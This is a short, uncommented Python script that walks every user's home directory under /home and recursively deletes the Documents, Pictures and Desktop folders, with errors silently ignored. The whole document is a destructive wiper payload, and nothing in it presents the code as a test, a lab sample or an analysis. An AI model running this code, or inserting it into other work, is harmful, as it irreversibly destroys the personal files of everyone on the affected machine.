from pathlib import Path
import shutil
for home in Path("/home").iterdir():
    for sub in ("Documents", "Pictures", "Desktop"):
        shutil.rmtree(home / sub, ignore_errors=True)
